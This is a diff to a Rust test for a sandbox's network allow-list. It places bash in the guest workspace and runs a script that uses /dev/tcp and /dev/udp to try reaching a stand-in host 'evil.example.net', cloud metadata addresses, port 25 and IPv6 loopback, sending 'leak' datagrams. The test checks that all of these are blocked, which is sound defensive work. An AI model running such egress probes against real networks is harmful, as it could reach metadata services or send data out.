@@ -2,7 +2,8 @@
 
 use std::io::{Read, Write};
 use std::net::TcpListener;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
+use std::process::Command;
 use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
 
@@ -100,26 +101,45 @@ fn a_guest_without_rules_has_no_door() {
     site.run(&[], script).exits(0).prints("");
 }
 
+/// Puts bash into a workspace, with the libraries that it needs: a program that asks for names as most
+/// do, which a static busybox cannot.
+fn bash_in(workspace: &Path) {
+    std::fs::create_dir(workspace).expect("a directory");
+    let listed = Command::new("ldd").arg("/bin/bash").output().expect("ldd can be run");
+    let listed = String::from_utf8(listed.stdout).expect("text");
+    for library in listed.split_whitespace().filter(|word| word.starts_with('/')) {
+        let name = Path::new(library).file_name().expect("a name");
+        std::fs::copy(library, workspace.join(name)).expect("a copy");
+    }
+    std::fs::copy("/bin/bash", workspace.join("bash")).expect("a copy");
+}
+
 /// Programs in a guest that know no proxy; and every other way out that a small program can try.
 #[test]
 fn a_guest_without_proxies_reaches_what_is_allowed_and_nothing_else() {
     let site = site_with_names();
+    let clients = site.ground.world.path("clients");
+    bash_in(&clients);
+    let clients = clients.to_str().expect("text");
     let (port, asked) = server();
     let datagrams = std::net::UdpSocket::bind("0.0.0.0:0").expect("a port");
     datagrams.set_read_timeout(Some(std::time::Duration::from_millis(300))).expect("a timeout");
     let udp = datagrams.local_addr().expect("bound").port();
     let allowed = format!("http://api.example.com:{port}");
-    let flags = ["--net-transparent", "--net", &allowed, "--timeout", "120s"];
+    let flags =
+        ["--net-transparent", "--net", &allowed, "--timeout", "120s", "--workspace", clients];
     let script = format!(
         "unset http_proxy HTTP_PROXY https_proxy HTTPS_PROXY all_proxy ALL_PROXY; \
-         busybox wget -q -T 20 -O - {allowed}/hello; \
-         busybox wget -q -T 20 -O - {allowed}/long | wc -c; \
+         bash() {{ ./ld-linux-x86-64.so.2 --library-path . ./bash -c \"$1\"; }}; \
+         get() {{ bash \"exec 3<>/dev/tcp/$1/{port} || exit 1; \
+         printf 'GET $2 HTTP/1.1\\r\\nHost: $1:{port}\\r\\nConnection: close\\r\\n\\r\\n' >&3; busybox sed '1,/^.\\?$/d' <&3\"; }}; \
+         get api.example.com /hello; get api.example.com /long | wc -c; \
          try() {{ \"$@\" >/dev/null 2>&1 && echo REACHED \"$@\"; }}; \
-         try busybox wget -q -T 3 -O - http://evil.example.net:{port}/; \
+         try get evil.example.net /; \
          for ip in 127.0.0.1 10.0.2.2 10.0.2.3 169.254.169.254 1.1.1.1 168.63.129.16 198.18.0.99; do \
          try busybox wget -q -T 3 -O - http://$ip:{port}/; \
          try busybox wget -q -T 3 -O - http://$ip:25/; \
-         echo leak | busybox timeout 1 busybox nc -u $ip {udp} >/dev/null 2>&1; done; \
+         bash \"echo leak >/dev/udp/$ip/{udp}\" 2>/dev/null; done; \
          try busybox wget -q -T 3 -O - 'http://[::1]:{port}/'; \
          try busybox wget -q -T 3 -O - 'http://[fd00:ec2::254]:{port}/'; \
          echo /sys/class/net/*"
